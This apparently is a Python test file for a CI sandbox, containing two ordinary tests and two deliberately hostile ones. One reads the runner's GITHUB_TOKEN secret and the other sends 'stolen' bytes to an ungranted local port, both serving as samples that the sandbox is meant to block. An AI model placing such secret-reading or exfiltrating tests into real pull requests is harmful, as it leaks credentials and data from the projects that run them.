"""A pull request's tests: two honest ones, two that reach for what CI must keep away."""

import os
import socket
import urllib.request

from calc import add


def test_add() -> None:
    assert add(2, 3) == 5


def test_granted_service() -> None:
    with urllib.request.urlopen("http://127.0.0.1:8765/", timeout=5) as response:
        assert response.read() == b"service ok"


def test_reads_runner_secret() -> None:
    # a hostile test: send the runner's token somewhere
    assert os.environ["GITHUB_TOKEN"].startswith("ghs_")


def test_calls_out() -> None:
    # a hostile test: exfiltrate to a host the rules do not grant
    with socket.create_connection(("127.0.0.1", 8766), timeout=5) as connection:
        connection.sendall(b"stolen")
